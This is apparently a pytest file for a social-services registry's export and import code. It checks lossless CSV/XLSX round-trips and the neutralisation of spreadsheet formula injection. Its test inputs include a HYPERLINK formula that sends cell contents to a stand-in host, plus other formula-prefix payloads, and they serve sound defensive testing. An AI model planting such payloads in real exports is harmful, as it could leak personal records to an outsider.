"""What SocDesk writes comes back whole: an export imports into an empty store with nothing lost
or invented, and no value it writes can run as a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from support import LOGIN, PASSWORD, TODAY, add_person, make_paths, set_up_places

from socdesk.demo import build_demo
from socdesk.reports.registry_export import ExportFormat, export_recipients
from socdesk.reports.registry_import import apply_import, plan_import, write_rejected
from socdesk.store.database import Store

PEOPLE = 80
COMPARED = (
    "surname, given_name, patronymic, birth_date, sex, rnokpp_status, rnokpp, document_type, "
    "document_number, unzr, phone, registered_address, actual_address, categories"
)


@pytest.fixture
def demo(store: Store) -> Store:
    build_demo(store, PEOPLE, seed=7)
    return store


@pytest.fixture
def empty(template_store: Path, tmp_path: Path) -> Iterator[Store]:
    """A second store (the template's copy) whose workplace serves one district."""
    folder = tmp_path / "empty"
    shutil.copytree(template_store, folder)
    opened = Store.open(make_paths(folder), LOGIN, PASSWORD)
    set_up_places(opened, "Заріччя")
    yield opened
    opened.close()


def people(store: Store) -> list[tuple[object, ...]]:
    with store.read() as conn:
        rows = conn.execute(
            text(
                f"SELECT {COMPARED}, s.name FROM person p "
                "LEFT JOIN settlement s ON s.id = p.settlement_id WHERE p.merged_into IS NULL"
            )
        ).all()
    return sorted(
        (tuple(sorted(v) if isinstance(v, list) else v for v in row) for row in rows), key=repr
    )


@pytest.mark.parametrize("fmt", [ExportFormat.CSV, ExportFormat.XLSX])
def test_export_imports_into_an_empty_store_with_nothing_lost(
    demo: Store, empty: Store, tmp_path: Path, fmt: ExportFormat
) -> None:
    out = tmp_path / f"реєстр.{fmt.value}"
    assert export_recipients(demo, out, fmt) == PEOPLE
    plan = plan_import(empty, out, None, TODAY)
    assert plan.issues == []
    assert apply_import(empty, plan, TODAY) == PEOPLE
    before, after = people(demo), people(empty)
    assert any(row[4] is not None for row in before)  # the demo has sexes, documents, categories
    assert any(row[13] for row in before) and any(row[7] for row in before)
    assert after == before


def test_export_writes_labels_a_person_reads_and_the_ids(demo: Store, tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    export_recipients(demo, out, ExportFormat.CSV)
    rows = list(csv.DictReader(out.read_text("utf-8-sig").splitlines(), delimiter=";"))
    with demo.read() as conn:
        ids = {r[0] for r in conn.execute(text("SELECT id FROM person"))}
    assert {r["Ідентифікатор"] for r in rows} == ids
    written = {v for row in rows for v in row.values()}
    assert not written & {"male", "female", "known", "unknown", "id_card", "passport_book"}
    assert {r["Стать"] for r in rows} <= {"жіноча", "чоловіча", ""}
    assert not any("older_alone" in r["Категорії"] for r in rows)


FORMULAS = [
    '=HYPERLINK("http://x.test/?leak="&A2&B2,"Докладніше")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(store: Store) -> Store:
    given = ("Олена", "Ганна", "Марія", "Ірина", "Оксана", "Віра")
    for name, formula in zip(given, FORMULAS, strict=True):
        add_person(store, "Формула", name, registered_address=formula)
    return store


def test_csv_export_neutralises_formulas(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    export_recipients(hostile, out, ExportFormat.CSV)
    cells = [
        c for row in csv.reader(out.read_text("utf-8-sig").splitlines(), delimiter=";") for c in row
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK" in "".join(cells)


def test_xlsx_export_writes_no_formula(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    export_recipients(hostile, out, ExportFormat.XLSX)
    sheet = load_workbook(out).active
    assert sheet is not None
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
    assert "f" not in kinds
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value]
    assert any(v.startswith("'=HYPERLINK") for v in values)


def test_neutralised_values_import_back_unchanged(
    hostile: Store, empty: Store, tmp_path: Path
) -> None:
    out = tmp_path / "r.csv"
    export_recipients(hostile, out, ExportFormat.CSV)
    plan = plan_import(empty, out, None, TODAY)
    apply_import(empty, plan, TODAY)
    with empty.read() as conn:
        addresses = {r[0] for r in conn.execute(text("SELECT registered_address FROM person"))}
    assert addresses == {f.strip() for f in FORMULAS}


def test_rejected_rows_file_neutralises_formulas(empty: Store, tmp_path: Path) -> None:
    source = tmp_path / "j.csv"
    source.write_text(
        'ПІБ;Дата нар.;Адреса\n=1+1 Олена;31.02.1960;=HYPERLINK("http://x.test")\n',
        encoding="utf-8",
    )
    plan = plan_import(empty, source, None, TODAY)
    assert write_rejected(plan, tmp_path / "rejected.csv") == 1
    cells = [
        c
        for row in csv.reader(
            (tmp_path / "rejected.csv").read_text("utf-8-sig").splitlines(), delimiter=";"
        )
        for c in row
    ]
    assert '\'=HYPERLINK("http://x.test")' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
